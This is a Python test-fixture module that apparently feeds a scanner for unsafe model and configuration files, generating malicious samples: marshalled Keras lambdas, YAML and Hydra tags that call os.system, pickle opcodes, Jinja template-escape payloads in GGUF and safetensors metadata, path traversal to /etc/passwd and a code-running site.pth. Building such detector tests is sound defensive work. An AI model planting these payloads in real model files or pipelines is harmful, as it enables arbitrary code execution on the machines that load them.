"""Configurations and templates: text that names what a library would import or evaluate."""

from __future__ import annotations

import base64
import json
import marshal
import struct
from collections.abc import Iterator
from typing import Any

from tests.scan.attacks.archives import zipped

_LAMBDA = base64.encodebytes(marshal.dumps(compile("__import__('os').system('touch x')", "x", "eval"))).decode()
_ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"


def _sequential(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {
        "module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)},
        "registered_name": None, **more,
    }  # fmt: skip


def _layer(kind: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": {"name": "x", **config}, "registered_name": None}


def _function(module: str, attribute: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": attribute, "registered_name": attribute}


def keras_attacks() -> Iterator[tuple[str, bytes]]:
    """Yield Keras files whose configuration imports or unmarshals something."""
    code = {"class_name": "__lambda__", "config": {"code": _LAMBDA, "defaults": None, "closure": None}}
    configurations = {
        "lambda": _sequential(_layer("Lambda", function=code)),
        "lambda_old_list": _sequential(_layer("Lambda", function=[_LAMBDA, None, None], function_type="lambda")),
        "lambda_wrapped": _sequential(_layer("TimeDistributed", layer=_layer("Lambda", function=code))),
        "lambda_as_activation": _sequential(_layer("Dense", units=1, activation=code)),
        "lambda_as_initializer": _sequential(_layer("Dense", units=1, kernel_initializer=code)),
        "lambda_case": _sequential(_layer("lambda", function=code)),
        "module_os": _sequential(_layer("system", module="os")),
        "module_subprocess_nested": _sequential(
            _layer("Bidirectional", layer=_layer("Popen", module="subprocess", args="x"))
        ),
        "function_of_builtins": _sequential(_layer("Dense", units=1, activation=_function("builtins", "exec"))),
        "function_of_keras_utils": _sequential(_layer("Lambda", function=_function("keras.utils", "get_file"))),
        "function_of_numpy": _sequential(_layer("Dense", units=1, activation=_function("numpy", "load"))),
        "torch_wrapper": _sequential(
            _layer("TorchModuleWrapper", module="keras.src.utils.torch_utils", lazy_module="UEsDBA==")
        ),
        "custom_class": _sequential(_layer("MyLayer", module="my_package.layers")),
        "registered": _sequential({**_layer("Evil", module="keras.layers"), "registered_name": "evil>Evil"}),
        "vocabulary_path": _sequential(_layer("StringLookup", vocabulary="/etc/passwd")),
        "vocabulary_url": _sequential(_layer("TextVectorization", vocabulary="gs://bucket/x.txt")),
        "compile_loss": _sequential(compile_config={"loss": _function("os", "system"), "optimizer": "adam"}),
        "optimizer_class": _sequential(
            compile_config={"optimizer": {"module": "shutil", "class_name": "rmtree", "config": {}}}
        ),
        "unsafe_tensor": _sequential(
            _layer("Dense", units={"class_name": "__numpy__", "config": {"value": 1}}, k=code)
        ),
        "dtype_policy": _sequential(_layer("Dense", dtype={"module": "evil", "class_name": "Policy", "config": {}})),
    }
    for title, configuration in configurations.items():
        data = json.dumps(configuration).encode()
        yield f"keras_{title}.keras", zipped([("config.json", data), ("metadata.json", b"{}")])
        yield f"json_{title}.json", data
    yield "escaped_lambda.json", json.dumps(configurations["lambda"]).replace("Lambda", "\\u004cambda").encode()
    yield "utf16_lambda.json", json.dumps(configurations["lambda"]).encode("utf-16")
    yield "bom_lambda.json", b"\xef\xbb\xbf" + json.dumps(configurations["lambda"]).encode()
    yield (
        "duplicate_key.json",
        b'{"class_name":"Sequential","module":"os","module":"keras","config":{"layers":['
        + json.dumps(_layer("Lambda", function=code)).encode()
        + b"]}}",
    )
    yield (
        "yaml_model.yaml",
        b"backend: tensorflow\nclass_name: Sequential\nconfig:\n- class_name: Lambda\n  config: {function: x}\n",
    )
    yield (
        "keras_asset_pickle.keras",
        zipped(
            [
                ("config.json", json.dumps(_sequential()).encode()),
                ("assets/x/vocabulary.txt", b"a"),
                ("model.weights.h5", b"cos\nsystem\n(S'x'\ntR."),
            ]
        ),
    )


def text_attacks() -> Iterator[tuple[str, bytes]]:
    """Yield configurations of other libraries."""
    yield "object.yaml", b"!!python/object/apply:os.system ['touch x']\n"
    yield "object_new.yml", b"a: !!python/object/new:subprocess.Popen [['touch','x']]\n"
    yield "tag_alias.yaml", b"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['x']\n"
    yield "verbatim_tag.yaml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['x']\n"
    yield "hydra.yaml", b"model:\n  _target_: os.system\n  command: touch x\n"
    yield "hydra_eval.yaml", b"model:\n  encoder:\n    _target_: builtins.eval\n    _args_: ['1']\n"
    yield "detectron_lazy.yaml", b"_target_: subprocess.Popen\nargs: [touch, x]\n"
    yield "config.json", b'{"model_type":"x","auto_map":{"AutoModel":"modeling_x.Evil"}}'
    yield "remote_config.json", b'{"auto_map":{"AutoConfig":"evil/repo--configuration_x.Evil"}}'
    yield "tokenizer_config.json", json.dumps({"tokenizer_class": "T", "chat_template": _ESCAPE}).encode()
    yield "tokenizer_config_list.json", json.dumps({"chat_template": [{"name": "a", "template": _ESCAPE}]}).encode()
    yield "tokenizer_auto.json", json.dumps({"auto_map": {"AutoTokenizer": ["tok.Evil", None]}}).encode()
    yield "chat_template.jinja", _ESCAPE.encode()
    yield "chat_template.json", json.dumps({"chat_template": _ESCAPE}).encode()
    yield "modules.json", b'[{"idx":0,"name":"0","path":"","type":"os.system"}]'
    yield "modules_custom.json", b'[{"idx":0,"name":"0","path":"","type":"my_code.Evil"}]'
    yield "model_index.json", b'{"_class_name":"P","unet":["my_pipeline","Evil"]}'
    yield "diffusers_custom.json", b'{"_class_name":["my_pipeline","Evil"],"unet":["diffusers","UNet2DModel"]}'
    yield "MLmodel", b"flavors:\n  python_function:\n    loader_module: os\n    python_model: python_model.pkl\n"
    yield (
        "network.prototxt",
        b'layer { name: "x" type: "Python" python_param { module: "os" layer: "system" param_str: "x" } }',
    )
    yield (
        "mx-symbol.json",
        b'{"nodes":[{"op":"Custom","name":"x","attrs":{"op_type":"evil"},"inputs":[]}],"arg_nodes":[],"heads":[]}',
    )
    yield (
        "params.json",
        b'{"type":"evil.Model","py/object":"os.system","py/reduce":[{"py/function":"os.system"},{"py/tuple":["x"]}]}',
    )
    for title, template in {
        "attr_filter": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "concatenated": "{% set a = '__cl' + 'ass__' %}{{ x[a] }}",
        "tilde": "{{ messages['__in' ~ 'it__'] }}",
        "globals": "{{ cycler.__init__.__globals__.os.popen('x').read() }}",
        "lipsum": "{{ lipsum.__globals__['os'].system('x') }}",
        "joined": "{{ x|attr(['_'*2,'class','_'*2]|join) }}",
        "format": "{{ x|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
        "format_method": "{{ '{0.__class__}'.format(x) }}",
        "request": "{{ self._TemplateReference__context }}",
        "include": "{% include '/etc/passwd' %}",
        "import": "{% import 'x' as y %}{{ y.z() }}",
        "reverse": "{{ x['__ssalc__'|reverse] }}",
        "subscript_get": "{{ messages[0].get.__self__ }}",
        "map_attribute": "{{ [x]|map(attribute='__class__')|list }}",
    }.items():
        yield f"template_{title}.gguf", gguf({"tokenizer.chat_template": template})
        yield f"template_{title}.jinja", template.encode()
    yield "template_named.gguf", gguf({"tokenizer.chat_template.tool_use": _ESCAPE})
    yield "template_other_key.gguf", gguf({"tokenizer.ggml.prompt_template": _ESCAPE})
    header = json.dumps({"__metadata__": {"chat_template": _ESCAPE}}).encode()
    yield "metadata.safetensors", struct.pack("<Q", len(header)) + header
    header = json.dumps({"__metadata__": {"config": "!!python/object/apply:os.system ['x']"}}).encode()
    yield "metadata_yaml.safetensors", struct.pack("<Q", len(header)) + header
    body = b"\x80\x04\x8c\x02os\x8c\x06system\x93(\x8c\x01xtR."
    header = b"{}"
    yield "behind_header.safetensors", struct.pack("<Q", len(header)) + header + body


def instantiated_attacks() -> Iterator[tuple[str, bytes]]:
    """Yield configurations whose libraries make objects, import modules or read files by the names in them."""
    yield "speechbrain_new.yaml", b"model: !new:os.system\n  command: echo x\n"
    yield "speechbrain_apply.yaml", b"seed: !apply:subprocess.call [echo x]\n"
    yield (
        "imports.gin",
        b"from __gin__ import dynamic_registration\nimport os\nrun.act = @os.system()\nos.system.command = 'x'\n",
    )
    yield "class_path.yaml", b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: echo x\n"
    yield "class_path.json", b'{"model":{"class_path":"os.system","init_args":{"command":"echo x"}}}'
    yield (
        "java_tag.yaml",
        b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]\n',
    )
    yield "class_path_in_text.json", json.dumps({"arguments": '{"class_path": "os.system"}'}).encode()
    yield "flow.yaml", b"model: {class_path: os.system, init_args: {command: x}}\n"
    yield "anchor.yaml", b"x: &a os.system\nmodel:\n  _target_: *a\n"
    yield "folded.yaml", b"model:\n  _target_: >-\n    os.system\n"
    yield "tagged.yaml", b"model:\n  _target_: !!str os.system\n"
    yield "target.toml", b'[model]\n_target_ = "os.system"\n'
    yield "trusting_flow.yaml", b"m: {pretrained: x, trust_remote_code: true}\n"
    yield "trusting_text.json", b'{"model_kwargs": {"trust_remote_code": "true"}}'
    yield "zarr.json", b'{"zarr_format": 3, "codecs": [{"name": "numcodecs.pickle", "configuration": {}}]}'
    yield "trusting.yaml", b"model:\n  trust_remote_code: true\n  pretrained: evil/model\n"
    template = "{{ cycler.__init__.__globals__.os.popen('x').read() }}"
    yield "prompt.json", json.dumps({"_type": "prompt", "template_format": "jinja2", "template": template}).encode()
    library = {"model": {"decoder": {"session_options": {"custom_ops_library": "../x.so"}}}}
    yield "genai_config.json", json.dumps(library).encode()
    manifest = [{"paths": ["../../../etc/passwd"], "weights": []}]
    yield "shards_outside.json", json.dumps({"modelTopology": {}, "weightsManifest": manifest}).encode()
    yield (
        ".zarray",
        b'{"zarr_format":2,"dtype":"|O","compressor":{"id":"blosc"},"filters":[{"id":"pickle","protocol":5}]}',
    )
    serialized = base64.b64encode(b"cos\nsystem\n(Vecho x\ntR.").decode()
    data = json.dumps({"policy_class": {":serialized:": serialized}}).encode()
    yield "stable_baselines.zip", zipped([("data", data), ("policy.pth", b"")])
    yield "site.pth", b"import os; os.system('echo x')\n"
    layer = b"\x0a\x01p\x12\x06Python\x92\x08\x0c\x0a\x02os\x12\x06system"
    yield "python_layer.caffemodel", b"\x0a\x03net\xa2\x06" + bytes([len(layer)]) + layer


def gguf(fields: dict[str, str]) -> bytes:
    """Return a GGUF file with texts as its metadata."""
    data = b"GGUF" + struct.pack("<IQQ", 3, 0, len(fields))
    for key, value in fields.items():
        raw = value.encode()
        data += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<I", 8) + struct.pack("<Q", len(raw)) + raw
    return data
